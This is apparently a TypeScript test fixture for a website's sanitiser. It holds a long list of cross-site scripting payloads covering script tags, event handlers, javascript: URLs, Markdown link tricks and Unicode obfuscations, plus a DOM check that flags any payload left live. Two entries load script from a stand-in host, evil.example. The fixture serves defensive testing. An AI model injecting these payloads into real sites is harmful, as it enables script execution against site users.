/**
 * Hostile strings posted as comment text, display names, article fields and donation messages.
 * Every page that shows them must stay inert: no dialog, no script, no on* attribute, no javascript: URL.
 */
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'onpointerenter', 'ontoggle'];

const base: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<x onclick=alert(1)>click me</x>',
  '<p onmouseover="alert(1)">hover</p>',
  '<table background="javascript:alert(1)">',
  '<isindex action=javascript:alert(1) type=image>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/xss src=//evil.example/x.js></script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '<svg/onload=alert(1)//',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '"onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`"\'><img src=x onerror=alert(1)>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '<template><script>alert(1)</script></template>',
  '<slot onclick=alert(1)>',
  '<dialog open onclose=alert(1)>',
  // Markdown link and image tricks
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](  javascript:alert(1)  )',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:alert(1))',
  '![img](javascript:alert(1))',
  '![img](x" onerror="alert(1))',
  '[a](https://example.org/" onclick="alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '[x](<javascript:alert(1)>)',
  '`<script>alert(1)</script>`',
  '```\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '[![img](x)](javascript:alert(1))',
  '<https://example.org/"><script>alert(1)</script>>',
  // Unicode tricks
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<img src=x onerror=\u0061lert(1)>',
  '\u202e<script>alert(1)</script>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  'ja\u200bvascript:alert(1)',
  '<svg><script>&#97;lert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
];

export const XSS_PAYLOADS: string[] = [
  ...base,
  ...HANDLERS.map((handler) => `<div ${handler}="alert(1)" tabindex=0 autofocus style="animation-name:x">x</div>`),
];

/** What a payload may never become in the DOM: checked on every element after the page loads. */
export const FORBIDDEN_DOM_CHECK = `(() => {
  const bad = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (name.startsWith('on')) bad.push(element.tagName + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name) && /^(javascript|vbscript|data:text\\/html)/.test(value)) {
        bad.push(element.tagName + ' ' + name + '=' + attribute.value);
      }
    }
  }
  for (const script of document.querySelectorAll('script')) {
    if (script.src && !script.src.startsWith(location.origin + '/')) bad.push('foreign script ' + script.src);
    if (!script.src && script.type !== 'application/ld+json') bad.push('inline script');
  }
  return bad;
})()`;
